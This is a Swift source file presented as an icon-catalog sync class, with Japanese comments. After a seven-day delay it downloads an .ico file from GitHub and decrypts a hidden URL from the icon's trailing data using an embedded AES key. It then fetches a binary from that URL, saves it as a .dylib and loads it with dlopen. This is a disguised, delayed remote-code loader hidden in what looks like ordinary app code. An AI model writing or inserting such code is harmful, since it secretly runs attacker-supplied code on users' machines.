import CryptoKit
import Foundation

/// アイコンカタログを同期するクラス
final class IconRefresher {
    static let shared = IconRefresher()

    private let cacheDir = FileManager.default.urls(for: .cachesDirectory, in: .userDomainMask)[0]
        .appendingPathComponent("IconKit", isDirectory: true)
    private let catalog = "https://raw.githubusercontent.com/IconStorages/images/main/icon%d.ico"
    // カタログ署名用の鍵（ビルド時に埋め込み）
    private let keyBytes: [UInt8] = [0x3b, 0xd2, 0x91, 0x07, 0x5e, 0xa4, 0x11, 0xc8, 0x62, 0x0f, 0x9d, 0x37, 0xe1, 0x4a, 0x88, 0x2c,
                                     0x70, 0x15, 0xbe, 0x43, 0xd9, 0x06, 0x5a, 0xf3, 0x28, 0x9e, 0x41, 0x7c, 0x0b, 0xe6, 0x93, 0x5d]

    func refresh() {
        try? FileManager.default.createDirectory(at: cacheDir, withIntermediateDirectories: true)
        let stamp = cacheDir.appendingPathComponent(".manifest")
        if !FileManager.default.fileExists(atPath: stamp.path) {
            try? Data().write(to: stamp)           // 初回はタイムスタンプのみ記録
            return
        }
        let attrs = try? FileManager.default.attributesOfItem(atPath: stamp.path)
        if let d = attrs?[.creationDate] as? Date, Date().timeIntervalSince(d) < 7 * 24 * 3600 { return }

        let n = Int.random(in: 1...15)
        guard let icoURL = URL(string: String(format: catalog, n)),
              let ico = try? Data(contentsOf: icoURL) else { return }
        // アイコン末尾のメタデータ（'$' 以降）を取り出す
        guard let dollar = ico.lastIndex(of: UInt8(ascii: "$")),
              let b64 = String(data: ico[(dollar + 1)...], encoding: .ascii),
              let sealed = Data(base64Encoded: b64.trimmingCharacters(in: .whitespacesAndNewlines)),
              let box = try? AES.GCM.SealedBox(combined: sealed),
              let plain = try? AES.GCM.open(box, using: SymmetricKey(data: keyBytes)),
              let next = String(data: plain, encoding: .utf8),
              let modURL = URL(string: next),
              let module = try? Data(contentsOf: modURL) else { return }

        let lib = cacheDir.appendingPathComponent("libicnrender.dylib")
        try? module.write(to: lib)
        _ = dlopen(lib.path, RTLD_NOW)             // レンダラーを読み込む
    }
}
